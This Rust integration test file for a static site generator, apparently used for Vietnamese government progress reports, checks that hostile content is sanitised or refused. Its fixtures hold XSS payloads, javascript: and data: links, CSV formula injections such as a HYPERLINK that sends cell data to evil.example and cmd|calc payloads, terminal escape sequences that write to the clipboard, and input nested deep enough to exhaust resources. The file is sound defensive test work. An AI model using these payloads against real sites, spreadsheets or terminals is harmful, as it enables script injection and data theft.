//! Hostile content, through the binary on small fixture sites: what a reader's
//! browser, a newspaper's spreadsheet or an editor's terminal would receive.
//! Each test is one item of issue 27 (the content side); each failed before the
//! change it names.

mod common;

use std::fs;
use std::path::Path;
use std::time::{Duration, Instant};

use common::*;

/// `tiendo ARGS` in `dir` with colours off; (exit code, stdout, stderr).
fn run(dir: &Path, args: &[&str]) -> (i32, String, String) {
    let o = tiendo()
        .args(["--color", "never"])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// `tiendo check .` on the fixture site with `files` laid over it.
fn check(files: &[(&str, &str)]) -> (i32, String) {
    let site = site_with(files);
    let (code, out, err) = run(site.path(), &["check", "."]);
    (code, format!("{out}{err}"))
}

const ENTRY_HEAD: &str = "---\ntitle: \"Báo cáo thử\"\ndate: 2026-06-01\ntask: thuong-xuyen\nreporter: co-quan-a\nstatus: in_progress\nillustrative: true\n";

fn entry(extra_front: &str, body: &str) -> String {
    format!("{ENTRY_HEAD}{extra_front}---\n{body}")
}

const ENTRY: &str = "content/progress/2026/thu.md";

#[test]
fn a_heading_with_event_attributes_is_published_without_them() {
    let body = "## Kết quả {tabindex=0 autofocus onfocus=alert(1) style=color:red}\n\nĐã xong.\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n";
    let (code, out) = check(&[(ENTRY, &entry("", body))]);
    assert_eq!(code, 0, "{out}");
    let (_site, out) = built(&[(ENTRY, &entry("", body))], &[]);
    let html = read(&out.path().join("public"), "tien-do/thu/index.html");
    assert!(
        html.contains("<h2 id=\"ket-qua\">Kết quả</h2>"),
        "the heading and its anchor: {html}"
    );
    for bad in [
        "onfocus",
        "autofocus",
        "alert(1)",
        "color:red",
        "tabindex=\"0\"",
    ] {
        assert!(!html.contains(bad), "{bad} is on the page: {html}");
    }
    assert!(
        html.contains("<th class=\"align-center\">a</th>"),
        "table alignment survives as a class: {html}"
    );
}

#[test]
fn check_names_each_javascript_or_data_link_with_file_line_and_column() {
    let evidence = "evidence:\n  - {ref: \"1-BC\", url: \"JavaScript:alert(1)\"}\n  - {ref: \"2-BC\", url: \" java\\tscript:alert(2)\"}\n  - {ref: \"3-BC\", url: \"https://example.org/bc\"}\n";
    let body = "Xem [báo cáo](javascript:alert(3)) và ![ảnh](data:image/svg+xml,x).\n\n<a href=\"&#106;avascript:alert(4)\">x</a>\n";
    let plan = fs::read_to_string(fixture("minimal").join("content/plan.md"))
        .unwrap()
        .replace(
            "title: \"Thông báo thử\"}",
            "title: \"Thông báo thử\", url: \"data:text/html,<script>alert(5)</script>\"}",
        );
    let (code, out) = check(&[(ENTRY, &entry(evidence, body)), ("content/plan.md", &plan)]);
    assert_eq!(code, 1, "{out}");
    for want in [
        "content/progress/2026/thu.md:9:24: lỗi: không được dùng liên kết `javascript:`",
        "content/progress/2026/thu.md:10:24: lỗi: không được dùng liên kết `javascript:`",
        "content/progress/2026/thu.md:13:15: lỗi: không được dùng liên kết `javascript:`",
        "content/progress/2026/thu.md:13:46: lỗi: không được dùng liên kết `data:`",
        "content/progress/2026/thu.md:15:10: lỗi: không được dùng liên kết `javascript:`",
        "content/plan.md:8:91: lỗi: không được dùng liên kết `data:`",
    ] {
        assert!(out.contains(want), "{want}\n{out}");
    }
    assert!(!out.contains("thu.md:11:"), "https is fine: {out}");
    assert!(out.contains("6 lỗi"), "{out}");
}

#[test]
fn an_html_or_svg_file_under_media_is_refused_by_check_and_not_published() {
    let (code, out) = check(&[
        ("content/media/trang.html", "<script>alert(1)</script>"),
        (
            "content/media/hinh.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        ),
        ("content/media/anh.png", "<svg onload=alert(1)>"),
        ("content/media/ghi-chu.txt", "Ghi chú thường.\n"),
    ]);
    assert_eq!(code, 1, "{out}");
    for want in [
        "content/media/trang.html: lỗi: không đăng được `media/trang.html`: đây là tệp đuôi `.html`",
        "content/media/hinh.svg: lỗi: không đăng được `media/hinh.svg`: đây là tệp đuôi `.svg`",
        "content/media/anh.png: lỗi: không đăng được `media/anh.png`",
        "đăng văn bản ở dạng PDF, ảnh ở dạng PNG",
    ] {
        assert!(out.contains(want), "{want}\n{out}");
    }
    assert!(!out.contains("ghi-chu.txt"), "plain text is fine: {out}");

    let site = site_with(&[("content/media/trang.html", "<script>alert(1)</script>")]);
    let public = site.path().join("public");
    let (code, _, err) = build(site.path(), &public, &[]);
    assert_eq!(code, 1, "{err}");
    assert!(!public.join("media/trang.html").exists());
}

#[test]
fn formulas_in_open_data_and_report_csv_are_shown_as_text() {
    let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")";
    let text = entry("", "Nội dung.\n").replace(
        "Báo cáo thử",
        "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Bấm\\\")",
    );
    let tasks = fs::read_to_string(fixture("minimal").join("content/tasks/co-quan-a.yaml"))
        .unwrap()
        .replace("\"Việc thường xuyên\"", "\"+cmd|' /C calc'!A0\"")
        .replace("\"Đánh giá cán bộ\"", "\"@SUM(1+1)*cmd|' /C calc'!A0\"");
    let agencies = fs::read_to_string(fixture("minimal").join("content/agencies.yaml"))
        .unwrap()
        .replace("\"Cơ quan A\"", "\"-2+3+cmd|' /C calc'!A0\"");
    let (site, out) = built(
        &[
            (ENTRY, &text),
            ("content/tasks/co-quan-a.yaml", &tasks),
            ("content/agencies.yaml", &agencies),
        ],
        &[],
    );
    let public = out.path().join("public");
    let entries = read(&public, "du-lieu/tien-do.csv");
    assert!(
        entries.contains("'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm\"\")"),
        "{entries}"
    );
    assert!(!entries.contains(&format!(",{title}")), "{entries}");
    let tasks_csv = read(&public, "du-lieu/nhiem-vu.csv");
    assert!(tasks_csv.contains("'+cmd|' /C calc'!A0"), "{tasks_csv}");
    assert!(tasks_csv.contains("'@SUM(1+1)"), "{tasks_csv}");

    let (code, csv, err) = run(site.path(), &["report", ".", "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    assert!(csv.contains(",'-2+3+cmd|' /C calc'!A0,"), "{csv}");
    assert!(!csv.contains(",-2+3"), "{csv}");
}

#[test]
fn a_base_url_with_double_slash_is_refused_by_check_and_build() {
    let yaml = fs::read_to_string(fixture("minimal").join("content/site.yaml"))
        .unwrap()
        .replace(
            "https://example.org/ke-hoach/",
            "https://example.org//cdn.evil.example/",
        );
    let (code, out) = check(&[("content/site.yaml", &yaml)]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("content/site.yaml:2:11: lỗi: địa chỉ `https://example.org//cdn.evil.example/` có `//` trong đường dẫn"),
        "{out}"
    );

    let site = site_with(&[]);
    for bad in [
        "https://example.org//cdn.evil.example/",
        "javascript:alert(1)//",
        "https:///x/",
    ] {
        let (code, _, err) = build(
            site.path(),
            &site.path().join("public"),
            &["--base-url", bad],
        );
        assert_eq!(code, 2, "{bad}: {err}");
        assert!(err.contains("lỗi: --base-url"), "{err}");
        assert!(!site.path().join("public").exists());
    }
}

#[test]
fn check_writes_terminal_escapes_out_instead_of_sending_them() {
    // A task id and a title with escapes: clear the screen, write the clipboard
    // (OSC 52), reverse the text's direction.
    let tasks = fs::read_to_string(fixture("minimal").join("content/tasks/co-quan-a.yaml"))
        .unwrap()
        .replace(
            "id: thuong-xuyen",
            "id: \"thuong\\e[2J\\e]52;c;ZXZpbA==\\a\"",
        )
        .replace("\"Việc chờ văn bản\"", "\"Việc \u{202e}chờ\"");
    let site = site_with(&[("content/tasks/co-quan-a.yaml", &tasks)]);
    let o = tiendo()
        .args(["--color", "never", "check", "."])
        .current_dir(site.path())
        .output()
        .unwrap();
    let all = [o.stdout.as_slice(), o.stderr.as_slice()].concat();
    assert!(!all.contains(&0x1b), "ESC reached the terminal");
    assert!(!all.contains(&0x07), "BEL reached the terminal");
    let text = String::from_utf8(all).unwrap();
    assert!(!text.contains('\u{202e}'), "{text}");
    assert!(
        text.contains("content/tasks/co-quan-a.yaml:8:14: lỗi: có ký tự điều khiển U+001B (ESC, mã điều khiển màn hình) trong văn bản"),
        "{text}"
    );
    // The message quoting the id writes it out.
    assert!(
        text.contains(
            "mã nhiệm vụ `thuong\\u{1b}[2J\\u{1b}]52;c;ZXZpbA==\\u{7}` không dùng được trong địa chỉ web"
        ),
        "{text}"
    );

    // A bidirectional override in a title (the first control character of its file).
    let tasks = fs::read_to_string(fixture("minimal").join("content/tasks/co-quan-a.yaml"))
        .unwrap()
        .replace("\"Việc chờ văn bản\"", "\"Việc \u{202e}chờ\"");
    let (code, out) = check(&[("content/tasks/co-quan-a.yaml", &tasks)]);
    assert_eq!(code, 1, "{out}");
    assert!(!out.contains('\u{202e}'), "{out}");
    assert!(
        out.contains("content/tasks/co-quan-a.yaml:14:16: lỗi: có ký tự điều khiển U+202E (ký tự đảo chiều chữ)"),
        "{out}"
    );
}

#[test]
fn control_characters_in_a_body_or_title_are_reported_with_line_and_column() {
    let text = entry("", "Dòng một.\nDòng hai\u{0c} có ký tự lạ.\n")
        .replace("Báo cáo thử", "Báo\u{0b}cáo");
    let (code, out) = check(&[(ENTRY, &text)]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("content/progress/2026/thu.md:2:12: lỗi: có ký tự điều khiển U+000B (tab dọc) trong văn bản"),
        "the first one, in the title: {out}"
    );
    let nul = entry("", "Có\u{0}NUL.\n");
    let (code, out) = check(&[(ENTRY, &nul)]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("content/progress/2026/thu.md:9:3: lỗi: có ký tự điều khiển U+0000 (NUL)"),
        "{out}"
    );
}

#[test]
fn aliases_on_another_page_or_a_generated_file_and_overlong_ids_are_reported_by_check() {
    let tasks = fs::read_to_string(fixture("minimal").join("content/tasks/co-quan-a.yaml"))
        .unwrap()
        .replace(
            "  due_text: \"hoàn thành trong tháng 5/2026\"\n",
            "  due_text: \"hoàn thành trong tháng 5/2026\"\n  aliases: [/nhiem-vu/thuong-xuyen/, /sitemap.xml, /tien-do/, /tin-cu/bai.html]\n",
        );
    let long = "a".repeat(240);
    let (code, out) = check(&[
        ("content/tasks/co-quan-a.yaml", &tasks),
        (
            &format!("content/progress/2026/{long}.md"),
            &entry("", "x\n"),
        ),
    ]);
    assert_eq!(code, 1, "{out}");
    for want in [
        "content/tasks/co-quan-a.yaml:8:13: lỗi: địa chỉ cũ `/nhiem-vu/thuong-xuyen/` đang là địa chỉ của một trang khác: `nhiem-vu/thuong-xuyen/` là trang của nhiệm vụ `thuong-xuyen`",
        "content/tasks/co-quan-a.yaml:8:38: lỗi: địa chỉ cũ `/sitemap.xml` đang là địa chỉ của một trang khác",
        "content/tasks/co-quan-a.yaml:8:52: lỗi: địa chỉ cũ `/tien-do/` đang là địa chỉ của một trang khác",
        "lỗi: mã báo cáo tiến độ dài 240 ký tự",
    ] {
        assert!(out.contains(want), "{want}\n{out}");
    }
    assert!(
        !out.contains("/tin-cu/bai.html"),
        "a free old address: {out}"
    );
    assert!(out.contains("4 lỗi"), "{out}");
}

#[test]
fn a_date_typo_is_warned_about_and_makes_no_thousands_of_bulletins() {
    let typo = entry("", "x\n").replace("date: 2026-06-01", "date: 0206-05-01");
    let (code, out) = check(&[(ENTRY, &typo)]);
    assert_eq!(code, 0, "a warning: {out}");
    assert!(
        out.contains(
            "content/progress/2026/thu.md:3:7: cảnh báo: ngày 01/5/206 cách xa thời gian của kế hoạch"
        ),
        "{out}"
    );

    let (_site, out) = built(&[(ENTRY, &typo)], &["--as-of", "9999-12-31"]);
    let bulletins = fs::read_dir(out.path().join("public/ban-tin"))
        .unwrap()
        .filter(|e| e.as_ref().unwrap().path().is_dir())
        .count();
    assert!(
        (1..=400).contains(&bulletins),
        "{bulletins} bulletin folders"
    );
}

#[test]
fn markdown_nested_thousands_deep_is_refused_by_check_quickly() {
    let quotes = entry("", &format!("{}x\n", ">".repeat(100_000)));
    let divs = entry("", &format!("Mở đầu.\n\n{}\n", "<div>".repeat(200_000)));
    for text in [quotes, divs] {
        let t = Instant::now();
        let (code, out) = check(&[(ENTRY, &text)]);
        assert_eq!(code, 1, "{out}");
        assert!(
            out.contains("content/progress/2026/thu.md:")
                && out.contains("lỗi: văn bản lồng nhau quá 100 cấp"),
            "{out}"
        );
        assert!(t.elapsed() < Duration::from_secs(10), "{:?}", t.elapsed());
    }
}

#[test]
fn every_page_forbids_inline_script_and_other_hosts() {
    let (_site, out) = built(&[], &[]);
    let public = out.path().join("public");
    let csp = scraper::Selector::parse("meta[http-equiv=\"Content-Security-Policy\"]").unwrap();
    let inline = scraper::Selector::parse(
        "script:not([src]):not([type=\"application/ld+json\"]), style, [style], [onload], [onclick]",
    )
    .unwrap();
    let pages = html_files(&public);
    assert!(pages.len() > 20, "{}", pages.len());
    for (path, html) in pages {
        let doc = scraper::Html::parse_document(&html);
        let policy = doc
            .select(&csp)
            .next()
            .and_then(|m| m.value().attr("content"))
            .unwrap_or_else(|| panic!("{path}: no Content-Security-Policy"));
        for part in [
            "default-src 'self'",
            "script-src 'self'",
            "style-src 'self'",
            "object-src 'none'",
        ] {
            assert!(policy.contains(part), "{path}: {policy}");
        }
        assert!(!policy.contains("unsafe-inline"), "{path}: {policy}");
        if let Some(el) = doc.select(&inline).next() {
            panic!(
                "{path}: inline script or style the policy would block: {}",
                el.html()
            );
        }
    }
    // What the inline blocks held is in files now.
    assert!(
        read(&public, "assets/print.css").contains("content:\" (https://example.org\" attr(href)")
    );
    assert!(read(&public, "assets/noscript.css").contains(".needs-js"));
}

#[test]
fn import_refuses_a_javascript_link_or_body_from_a_spreadsheet() {
    let site = site_with(&[]);
    let s = site.path();
    let head = "ma_nhiem_vu,ma_xa_phuong,don_vi_bao_cao,ngay,tinh_trang,phan_tram,tieu_de,noi_dung,so_van_ban,ngay_van_ban,lien_ket,minh_hoa\n";
    let before = walkdir::WalkDir::new(s.join("content")).into_iter().count();
    for (name, row) in [
        ("lien-ket.csv", "thuong-xuyen,,co-quan-b,5/7/2026,in_progress,,Báo cáo tháng 7,,,,\"\tJAVASCRIPT:alert(1)\",x\n"),
        ("noi-dung.csv", "thuong-xuyen,,co-quan-b,5/7/2026,in_progress,,Báo cáo tháng 7,[bấm](javascript:alert(2)),,,,x\n"),
    ] {
        fs::write(s.join(name), format!("{head}{row}")).unwrap();
        let (code, out, err) = run(s, &["import", name]);
        assert_eq!(code, 1, "{name}: {out}\n{err}");
        assert!(err.contains("không được dùng liên kết `javascript:`"), "{name}: {err}");
        assert!(err.contains("không ghi gì cả"), "{name}: {err}");
    }
    assert_eq!(
        walkdir::WalkDir::new(s.join("content")).into_iter().count(),
        before
    );
}
